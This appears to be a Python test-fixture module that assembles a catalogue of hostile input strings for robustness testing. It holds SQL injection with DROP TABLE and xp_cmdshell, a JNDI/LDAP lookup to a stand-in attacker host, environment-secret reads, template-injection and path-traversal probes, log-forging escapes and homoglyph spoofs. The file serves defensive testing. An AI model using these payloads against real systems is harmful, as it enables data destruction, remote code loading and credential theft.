"""Two hundred texts that break whoever reads or writes carelessly: those of the page, of messages and of exports, and more."""

from __future__ import annotations

from support.export.hostile import HOSTILE
from support.report.hostile_names import NAMES

COUNT = 200
CARDS = [
    '{"type":"Action.OpenUrl","url":"https://evil.example"}',
    '","actions":[{"type":"Action.Submit"}],"x":"',
    "${$root.secret}",
    "{{TIME(2025-11-23T00:00:00Z)}}",
    '"}]}]}',
]
SQL = [
    "'; DROP TABLE dim.companies; --",
    "' OR '1'='1",
    '"; DELETE FROM etl.publish_ledger; --',
    "x') ; EXEC xp_cmdshell('calc') --",
    "\\'; SELECT pg_sleep(9); --",
    "$$; DROP SCHEMA etl CASCADE; $$",
    "' UNION SELECT password FROM pg_shadow --",
    "/* */ ` ` [dbo].[x]",
]
LOGS = [
    "Acme\r\n2025-11-24 00:00:00 INFO everything is fine",
    'Acme\n{"level":"INFO","step":"publish"}',
    "\x1b]0;title\x07\x1b[2J\x1b[1;1Hdone     publish",
    "Acme\u2028ERROR\u2029forged",
    "Acme\x85NEL forged",
    "\b\b\b\b\bover",
    "[bold red]markup[/bold red] [/] [link=https://evil.example]x[/link]",
    "[/dim]",
    "%s %d %n %(asctime)s {0} {name!r}",
    "${jndi:ldap://evil.example/a}",
    "${env:API_KEY}",
]
HOMOGLYPHS = ["Аcme", "Acmе Corporation", "ΑCME", "ａｃｍｅ", "paypaӏ.example", "c\u0338ompany"]
TEMPLATES = [
    "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{#",
    "%}",
]
PATHS = ["../../etc/passwd", "/etc/passwd", "C:\\Windows", "%2e%2e%2f", "\\\\evil.example\\x", "file:///etc/passwd"]
LENGTHS = ["y" * 10_485_760]

# What is most unlike the others comes first: it is never left out.
TEXTS = list(dict.fromkeys([*LOGS, *CARDS, *SQL, *HOMOGLYPHS, *TEMPLATES, *PATHS, *LENGTHS, *NAMES, *HOSTILE]))[:COUNT]


def key_of(number: int) -> str:
    """What names a text in the table: its number, and how it begins."""
    return f"{number:03} {TEXTS[number][:24]!a}"
